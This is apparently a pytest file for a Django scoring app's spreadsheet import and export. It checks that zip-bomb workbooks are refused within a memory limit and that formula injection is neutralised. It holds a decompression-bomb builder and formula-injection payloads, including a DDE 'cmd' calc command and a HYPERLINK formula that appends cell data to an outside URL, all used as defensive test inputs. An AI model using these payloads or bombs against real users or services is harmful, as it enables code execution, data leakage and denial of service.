"""Findings 3 and 4: xlsx bombs and formula injection, replayed through the pages on PostgreSQL.

A 1 MB upload that unfolds to 1,000 MB is refused before any XML is parsed, and the process
stays under 200 MB (measured in a separate process: its peak RSS); a 10 MB upload at the limits
is read within the same bound; formulas and over-long cells are reported row by row; another
unit's sheet is refused; no export holds a formula a user wrote."""

import json
import subprocess
import sys
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from clusters.models import Stage
from emulation.scoring import services
from emulation.scoring.models import ScoreEntry
from tests.emulation.scoring.conftest import build_table, open_scoring, score_all, sheet
from tests.factories import make_cast

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MB = 1024 * 1024


@pytest.fixture
def sc(db):
    cast = make_cast()
    cast.criteria = build_table(cast.year, cast.admin)
    cast.year = open_scoring(cast.year)
    return cast


def _bytes(wb):
    out = BytesIO()
    wb.save(out)
    return out.getvalue()


def _upload(data, name="bang.xlsx"):
    return SimpleUploadedFile(name, data, XLSX)


def _bomb(path, unfolded_mb=1000):
    """A real workbook whose sheet holds one inline string of `unfolded_mb` MB (about 1 MB zipped)."""
    base = zipfile.ZipFile(BytesIO(_bytes(Workbook())))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for item in base.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item, base.read(item))
        with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet_xml:
            sheet_xml.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
            )
            chunk = b"A" * MB
            for _ in range(unfolded_mb):
                sheet_xml.write(chunk)
            sheet_xml.write(b"</t></is></c></row></sheetData></worksheet>")
    return path


def _peak_rss_reading(path):
    """Reads the file as the import does, in a fresh process; returns (message, MB the reading added
    to the peak RSS of a process that has already loaded Django, the apps and the file's bytes)."""
    script = f"""
import json, resource, django
django.setup()
from django.core.exceptions import ValidationError
from emulation.scoring import spreadsheets
data = open({str(path)!r}, "rb").read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    rows = spreadsheets.sheet_read(data)
    message = f"{{len(rows)}} rows"
except ValidationError as exc:
    message = " ".join(exc.messages)
print(json.dumps([message, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024]))
"""
    result = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=300, check=True
    )
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_a_1_mb_upload_unfolding_to_1000_mb_is_refused_under_200_mb(tmp_path):
    path = _bomb(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 2 * MB
    message, peak = _peak_rss_reading(path)
    assert "giải nén" in message or "MB" in message, message
    assert peak < 200, f"peak RSS {peak:.0f} MB"


def test_a_10_mb_upload_at_the_limits_is_read_under_200_mb(tmp_path):
    """2,000 rows of long notes plus an incompressible part: 10 MB on the wire, read in streaming."""
    import os

    wb = Workbook()
    ws = wb.active
    ws.append(
        ["Mã", "Tiêu chí", "Điểm tối đa", "Loại", "Điểm tự chấm (hoặc kết quả đạt được)", "", "Ghi chú"]
    )
    for i in range(1999):
        ws.append([f"9.{i}", "x", 1, "điểm", 1, None, os.urandom(1500).hex()[:4900]])
    data = _bytes(wb)
    path = tmp_path / "big.xlsx"
    with zipfile.ZipFile(BytesIO(data)) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            out.writestr(item, src.read(item))
        out.writestr("xl/media/padding.bin", os.urandom(10 * MB - len(data) - 64 * 1024))
    assert 9 * MB < path.stat().st_size <= 10 * MB
    message, peak = _peak_rss_reading(path)
    assert message == "1999 rows", message
    assert peak < 200, f"peak RSS {peak:.0f} MB"


def test_the_bomb_through_the_page_is_refused_with_a_message_and_changes_nothing(client, sc, tmp_path):
    path = _bomb(tmp_path / "bomb.xlsx", unfolded_mb=300)
    client.force_login(sc.staff_a)
    url = reverse("scoring:sheet_import", args=[sc.year.pk, sc.unit_a.pk])
    html = client.post(url, {"file": _upload(path.read_bytes())}, follow=True).content.decode()
    assert "Không có gì thay đổi" in html and "MB" in html
    assert not ScoreEntry.objects.exists()


def _download(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return load_workbook(BytesIO(response.content))


def _fill(ws, values):
    for row in ws.iter_rows(min_row=5):
        if row[0].value in values:
            row[4].value, row[6].value = values[row[0].value]


def test_formula_cells_in_an_import_are_reported_row_by_row(client, sc):
    client.force_login(sc.staff_a)
    wb = _download(client, reverse("scoring:sheet_export", args=[sc.year.pk, sc.unit_a.pk]))
    _fill(wb.active, {"1.1": ("=10-1", None), "1.2": (40, '=HYPERLINK("http://x.invalid","x")')})
    url = reverse("scoring:sheet_import", args=[sc.year.pk, sc.unit_a.pk])
    html = client.post(url, {"file": _upload(_bytes(wb))}, follow=True).content.decode()
    assert "Dòng 6" in html and "Dòng 7" in html and "công thức" in html
    assert not ScoreEntry.objects.exists()


@pytest.mark.parametrize("value", ["NaN", "1e308", "0.5.0", "١٢", "1" * 27, "#NUM!"])
def test_non_numbers_in_an_import_are_reported_row_by_row(client, sc, value):
    client.force_login(sc.staff_a)
    wb = _download(client, reverse("scoring:sheet_export", args=[sc.year.pk, sc.unit_a.pk]))
    _fill(wb.active, {"1.2": (value, None)})
    url = reverse("scoring:sheet_import", args=[sc.year.pk, sc.unit_a.pk])
    response = client.post(url, {"file": _upload(_bytes(wb))}, follow=True)
    html = response.content.decode()
    assert response.status_code == 200
    assert "Dòng 7 (tiêu chí 1.2)" in html
    assert not ScoreEntry.objects.exists()


def test_an_over_long_cell_is_reported(client, sc):
    client.force_login(sc.staff_a)
    wb = _download(client, reverse("scoring:sheet_export", args=[sc.year.pk, sc.unit_a.pk]))
    _fill(wb.active, {"1.1": (5, "ệ" * 6000)})
    url = reverse("scoring:sheet_import", args=[sc.year.pk, sc.unit_a.pk])
    html = client.post(url, {"file": _upload(_bytes(wb))}, follow=True).content.decode()
    assert "Dòng 6" in html and "5000" in html.replace(".", "")
    assert not ScoreEntry.objects.exists()


def test_another_units_sheet_is_refused_even_by_the_secretary(client, sc):
    """The sheet says whose it is: B's sheet uploaded into A's is refused."""
    client.force_login(sc.staff_b)
    wb = _download(client, reverse("scoring:sheet_export", args=[sc.year.pk, sc.unit_b.pk]))
    _fill(wb.active, {"1.1": (5, None)})
    client.force_login(sc.staff_a)
    url = reverse("scoring:sheet_import", args=[sc.year.pk, sc.unit_a.pk])
    html = client.post(url, {"file": _upload(_bytes(wb))}, follow=True).content.decode()
    assert sc.unit_b.code in html and "đơn vị khác" in html
    assert not ScoreEntry.objects.exists()


INJECTED = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0"]


def _assert_no_user_formula(wb, url):
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{url} {ws.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, f"{url} {ws.title}!{cell.coordinate} is not marked as text"
                    seen += 1
    return seen


def test_no_export_holds_a_formula_a_user_wrote(client, sc):
    """Criterion text and guidance, notes, reasons, unit names: every export writes them as text."""
    c = sc.criteria
    c.c11.text, c.c11.guidance = INJECTED[0], INJECTED[1]
    c.c11.save()
    sc.unit_b.name = INJECTED[2]
    sc.unit_b.save()
    score_all(sc, sc.unit_a, sc.staff_a, {c.c11: "5"})
    s = sheet(sc, sc.unit_a)
    ScoreEntry.objects.filter(sheet=s).update(note=INJECTED[4])
    services.adjustment_add(sheet=s, kind="bonus", points="2", reason=INJECTED[3], actor=sc.secretary)
    services.eligibility_set(sheet=s, ineligible=True, reason=INJECTED[4], actor=sc.secretary)
    client.force_login(sc.secretary)
    urls = [
        reverse("scoring:sheet_export", args=[sc.year.pk, sc.unit_a.pk]),
        reverse("scoring:criteria_export", args=[sc.year.pk]),
        reverse("scoring:ranking_export", args=[sc.year.pk]),
    ]
    seen = sum(_assert_no_user_formula(_download(client, url), url) for url in urls)
    type(sc.year).objects.filter(pk=sc.year.pk).update(stage=Stage.CLOSED)
    client.force_login(sc.leader_a)
    url = reverse("yearend:summary_xlsx", args=[sc.year.pk])
    seen += _assert_no_user_formula(_download(client, url), url)
    assert seen >= 6  # the injected texts are there, as text
